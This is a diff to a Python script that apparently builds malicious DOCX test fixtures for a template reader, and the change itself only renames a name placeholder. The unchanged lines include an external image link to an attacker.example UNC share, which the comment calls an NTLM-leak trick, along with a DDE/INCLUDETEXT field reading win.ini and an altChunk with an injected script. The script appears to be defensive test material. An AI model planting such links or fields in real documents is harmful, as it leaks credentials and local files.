@@ -43,7 +43,7 @@ def para(text):
     return f"<w:p><w:r><w:t xml:space=\"preserve\">{text}</w:t></w:r></w:p>"
 
 
-DOC = body(para("臺中市政府 {name}"))
+DOC = body(para("臺中市政府 {applicant.name}"))
 
 
 def parts(doc=DOC, extra=(), root_rels=ROOT_RELS, ct=CT, doc_rels=None):
@@ -203,7 +203,7 @@ def pkg_rel_external_image(out):
     # An image fetched from a remote share (the NTLM-leak trick); the reader
     # must refuse to resolve it, never fetch it.
     doc = body('<w:p><w:r><w:drawing><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
-               'r:link="rId9"/></w:drawing></w:r></w:p>' + para("{name}"))
+               'r:link="rId9"/></w:drawing></w:r></w:p>' + para("{applicant.name}"))
     write(out, parts(doc=doc, doc_rels=rels(
         ("rId9", "http://schemas.openxmlformats.org/officeDocument/2006/relationships/image",
          "\\\\attacker.example\\share\\x.png", "External"))))
@@ -298,13 +298,13 @@ def tpl_dde(out):
                '<w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'
                '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> INCLUDETEXT "C:\\\\Windows\\\\win.ini" </w:instrText></w:r>'
                '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>old</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
-               + para("{name}"))
+               + para("{applicant.name}"))
     write(out, parts(doc=doc))
 
 
 def tpl_altchunk(out):
     ct = CT.replace("</Types>", '<Default Extension="html" ContentType="text/html"/></Types>')
-    doc = body('<w:altChunk r:id="rId7"/>' + para("{name}"))
+    doc = body('<w:altChunk r:id="rId7"/>' + para("{applicant.name}"))
     write(out, parts(doc=doc, ct=ct, doc_rels=rels(
         ("rId7", "http://schemas.openxmlformats.org/officeDocument/2006/relationships/aFChunk",
          "chunk.html", None)), extra=[("word/chunk.html", "<html><body><script>alert(1)</script></body></html>")]))
